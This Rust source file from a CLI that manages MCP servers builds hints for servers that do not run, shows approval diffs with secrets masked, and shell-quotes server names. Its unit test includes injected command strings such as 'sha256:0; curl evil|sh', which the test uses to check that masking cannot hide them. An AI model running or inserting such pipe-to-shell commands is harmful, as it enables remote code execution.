//! Explains why a server does not run, with a hint.

use serde_json::{Value, json};
use trunkline::auth::server_config;
use trunkline::server::{ServerStatus, State};
use trunkline_config::redact::{RedactMode, redact_entry};
use trunkline_config::{
    ApprovalChange, EntryStatus, GrantType, HIDDEN, OAuthEntry, Server, changes_since_approval,
};

use crate::commands::doctor::known;
use crate::exit::Exit;
use crate::output;
use crate::session;

/// The hint for a server behind the identity provider of a company.
const XAA_HINT: &str =
    "sign in with `trunkline xaa login`, after `trunkline xaa setup` if that was never done";

/// Returns why a server does not run, with a hint; `None` if it runs or is only disabled.
pub(crate) fn reason(server: &Server) -> Option<(String, Option<String>)> {
    let name = last_word(&server.entry.name);
    match &server.status {
        EntryStatus::Active | EntryStatus::Disabled => None,
        EntryStatus::PendingApproval { before: None } => Some((
            "it comes with the project and needs your approval".to_owned(),
            Some(format!("review it with `trunkline approve {name}`")),
        )),
        EntryStatus::PendingApproval { before: Some(_) } => Some((
            "it has changed since you approved it".to_owned(),
            Some(format!("review the change with `trunkline approve {name}`")),
        )),
        EntryStatus::Rejected { source } if *source == global_file() => Some((
            format!("you rejected it ({source})"),
            Some(format!("to allow it again, run `trunkline approve {name}`")),
        )),
        EntryStatus::Rejected { source } => Some((
            format!("it is rejected in {source}"),
            Some("to allow it, remove it from \"disabledMcpjsonServers\" there".to_owned()),
        )),
        EntryStatus::Blocked(blocked) => Some((format!("blocked by policy: {blocked}"), None)),
        EntryStatus::Suppressed { by } => Some((format!("it duplicates \"{by}\""), None)),
        EntryStatus::OwnGateway => Some((
            "it starts this gateway, which does not start itself".to_owned(),
            None,
        )),
        EntryStatus::Shadowed { by } => {
            Some((format!("an entry of the same name shadows it: {by}"), None))
        }
        other => Some((format!("its status is {other:?}"), None)),
    }
}

/// Returns the file that `approve` and `reject` write to.
fn global_file() -> String {
    session::layout().global_file.display().to_string()
}

/// Returns the changes since a server was approved.
pub(crate) fn differences(server: &Server) -> Vec<ApprovalChange> {
    match &server.status {
        EntryStatus::PendingApproval {
            before: Some(before),
        } => changes_since_approval(before, &server.entry),
        _ => Vec::new(),
    }
}

/// Formats changes as a diff with masked secrets.
pub(crate) fn difference_lines(changes: &[ApprovalChange]) -> Vec<String> {
    let text =
        |value: Option<Value>| value.map_or_else(|| "(none)".to_owned(), |value| value.to_string());
    changes
        .iter()
        .flat_map(|change| {
            let field = &change.field;
            match (change.file(), &change.old, &change.new) {
                (Some(file), Some(_), Some(_)) => {
                    return vec![format!("~ {file}: content changed")];
                }
                (Some(file), None, _) => return vec![format!("+ {file}: now runs too")],
                (Some(file), ..) => return vec![format!("- {file}: removed")],
                (None, ..) => {}
            }
            let (old, new) = sides(change);
            if old == new {
                return vec![format!("~ {field}: different value")];
            }
            vec![
                format!("- {field}: {}", text(old)),
                format!("+ {field}: {}", text(new)),
            ]
        })
        .collect()
}

/// Returns the old and the new value, masked like a whole entry.
fn sides(change: &ApprovalChange) -> (Option<Value>, Option<Value>) {
    let masked = |value: &Value| {
        let mut value = without_hashes(value);
        let mut path: Vec<&str> = change.field.splitn(2, '.').collect();
        path.reverse();
        for name in &path {
            value = json!({ *name: value });
        }
        redact_entry(&mut value, RedactMode::Approval);
        for name in path.iter().rev() {
            value = value[*name].take();
        }
        value
    };
    (
        change.old.as_ref().map(masked),
        change.new.as_ref().map(masked),
    )
}

/// Replaces the hash of a secret by a mask.
fn without_hashes(value: &Value) -> Value {
    match value {
        Value::String(text) => match text.rsplit_once("sha256:") {
            Some(("", hash)) if is_hash(hash, &[16, 64]) => json!(HIDDEN),
            // A masked text is followed by its hash.
            Some((shown, hash)) if is_hash(hash, &[16]) && shown.contains(HIDDEN) => {
                json!(shown.strip_suffix(' ').unwrap_or(text))
            }
            _ => value.clone(),
        },
        Value::Object(members) => members
            .iter()
            .map(|(name, value)| (name.clone(), without_hashes(value)))
            .collect::<serde_json::Map<_, _>>()
            .into(),
        Value::Array(elements) => elements.iter().map(without_hashes).collect(),
        value => value.clone(),
    }
}

/// Returns whether a text is a hash of one of these lengths, as stored in an approval.
fn is_hash(text: &str, lengths: &[usize]) -> bool {
    let is_digit = |byte: u8| matches!(byte, b'0'..=b'9' | b'a'..=b'f');
    lengths.contains(&text.len()) && text.bytes().all(is_digit)
}

/// Formats changes for `--json`.
pub(crate) fn difference_json(changes: &[ApprovalChange]) -> Value {
    changes
        .iter()
        .map(|change| {
            let (old, new) = sides(change);
            json!({"field": change.field, "old": old, "new": new})
        })
        .collect()
}

/// Reports that a server may not run.
pub(crate) fn refuse(server: &Server) -> Exit {
    if let Some((reason, hint)) = reason(server) {
        let what = format!(
            "the server \"{}\" does not run: {reason}",
            server.entry.name
        );
        output::error(&what, hint.as_deref());
    }
    Exit::Refused
}

/// Reports that a server is disabled.
pub(crate) fn disabled(name: &str) -> Exit {
    let what = format!("the server \"{name}\" is disabled");
    output::error(&what, Some(&enable_hint(name)));
    Exit::NotConnected
}

/// Returns what the user can do about a server's state.
pub(crate) fn state_hint(server: &ServerStatus) -> Option<String> {
    let entry = server.entry.as_ref();
    let takes_sign_in = entry.is_some_and(|entry| server_config(entry).is_some());
    let oauth = entry.and_then(|entry| entry.transport.oauth());
    let needs_auth = matches!(server.state, State::NeedsAuth(_));
    if let Some(oauth) = oauth.filter(|_| needs_auth)
        && let Some(hint) = machine_hint(&server.name, oauth)
    {
        return Some(hint);
    }
    if needs_auth && takes_sign_in {
        return Some(login_hint(&server.name));
    }
    let known = match (entry, server.state.failure()) {
        (Some(entry), Some(failure)) => known::hint_of_output(entry, failure),
        _ => None,
    };
    let hint = known.or_else(|| server.state.hint().map(str::to_owned));
    hint.or_else(|| server.state.failure().map(|_| doctor_hint(&server.name)))
}

/// Returns the cause of a failure in other words than its own: `the registry has no package "x"`
/// instead of an exit status.
pub(crate) fn known_cause(server: &ServerStatus) -> Option<String> {
    known::cause_of_output(server.entry.as_ref()?, server.state.failure()?)
}

/// As [`state_hint`], and looks for the program of a server that could not be started.
pub(crate) fn thorough_hint(server: &ServerStatus) -> Option<String> {
    let failure = server.state.failure();
    let known = match (server.entry.as_ref(), failure) {
        (Some(entry), Some(failure)) => known::hint(entry, failure),
        _ => None,
    };
    known.or_else(|| state_hint(server))
}

/// Returns the hint to find out why a server fails.
pub(crate) fn doctor_hint(name: &str) -> String {
    format!("find the cause with `trunkline doctor {}`", last_word(name))
}

/// Returns the hint for a server that the user does not sign in to.
fn machine_hint(name: &str, oauth: &OAuthEntry) -> Option<String> {
    match oauth {
        oauth if oauth.xaa => Some(XAA_HINT.to_owned()),
        oauth if oauth.grant_type == GrantType::ClientCredentials => {
            let key = match oauth.private_key_file {
                Some(_) => "\"privateKeyFile\"",
                None => "client secret",
            };
            let name = last_word(name);
            Some(format!(
                "check its \"clientId\" with `trunkline get {name}`, and its {key}"
            ))
        }
        _ => None,
    }
}

/// Returns the hint to sign in to a server.
pub(crate) fn login_hint(name: &str) -> String {
    format!("sign in with `trunkline login {}`", last_word(name))
}

/// Returns the hint to enable a server.
pub(crate) fn enable_hint(name: &str) -> String {
    format!("enable it with `trunkline enable {}`", last_word(name))
}

/// Quotes a name as the last words of a command: a name such as `--all` is no option.
pub(crate) fn last_word(name: &str) -> String {
    let separator = if name.starts_with('-') { "-- " } else { "" };
    format!("{separator}{}", quoted(name))
}

/// Quotes a word for a shell.
pub(crate) fn quoted(name: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_.:/@".contains(c);
    if !name.is_empty() && name.chars().all(plain) {
        name.to_owned()
    } else {
        format!("'{}'", name.replace('\'', "'\\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_in_a_hint_is_no_option() {
        for (name, expected) in [("a", "login a`"), ("--url=x", "login -- '--url=x'`")] {
            let hint = login_hint(name);
            assert!(hint.ends_with(expected), "{hint}");
        }
    }

    #[test]
    fn only_hashes_of_secrets_are_masked() {
        let hash = "0123456789abcdef";
        for (text, shown) in [
            (format!("sha256:{hash}"), "***".to_owned()),
            (format!("sha256:{}", hash.repeat(4)), "***".to_owned()),
            (
                format!("--token=*** sha256:{hash}"),
                "--token=***".to_owned(),
            ),
        ] {
            assert_eq!(without_hashes(&json!(text)), json!(shown));
        }
        for text in [
            "run x sha256:0; curl evil|sh".to_owned(),
            "sha256:0; curl evil|sh".to_owned(),
            format!("run x sha256:{hash}"),
            format!("*** x sha256:{hash}; curl evil|sh"),
            format!("sha256:{hash}; curl evil|sh"),
            format!("*** sha256:{hash}0"),
            format!("***xsha256:{hash}"),
        ] {
            assert_eq!(without_hashes(&json!(text)), json!(text));
        }
    }
}
